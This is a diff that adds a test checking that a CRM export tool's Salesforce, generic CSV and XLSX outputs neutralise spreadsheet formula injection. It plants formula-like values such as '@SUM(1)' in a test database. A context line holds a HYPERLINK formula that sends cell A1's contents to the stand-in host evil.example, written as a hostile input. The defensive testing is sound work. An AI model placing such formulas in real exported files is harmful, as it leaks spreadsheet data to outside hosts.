@@ -110,3 +110,23 @@ def test_handover_csv_xlsx_and_html(hostile, tmp_path, capsys) -> None:
     html = out_html.read_text(encoding="utf-8")
     assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Click&quot;)" in html
     assert "<a " not in html.lower()
+
+
+def test_crm_update_files(hostile, tmp_path, capsys) -> None:
+    """Owner-change files carry names, territories, reps, user ids and e-mails from the CRM."""
+    con = sqlite3.connect(hostile)
+    with con:
+        con.execute("UPDATE rep SET crm_user_id = '@SUM(1)', email = '=1+1@x.example' "
+                    "WHERE name = '-Rep 3'")  # fmt: skip
+    con.close()
+    outs = {fmt: tmp_path / f"{fmt}.csv" for fmt in ("salesforce", "salesforce-email", "generic")}
+    outs["generic-xlsx"] = tmp_path / "generic.xlsx"
+    for fmt, out in outs.items():
+        code, _, err = run(capsys, "crm-update", hostile, "--scenario", "East", "--format",
+                           fmt.removesuffix("-xlsx"), "--out", out)  # fmt: skip
+        assert code == 0, err
+    _assert_csv_neutral(outs["salesforce"], ["@SUM(1)"])
+    _assert_csv_neutral(outs["salesforce-email"], ["=1+1@x.example"])
+    texts = [*PAYLOADS, "=T3()", "-Rep 3", "=1+1@x.example", "@SUM(1)"]
+    _assert_csv_neutral(outs["generic"], texts)
+    _assert_xlsx_text(outs["generic-xlsx"], texts)
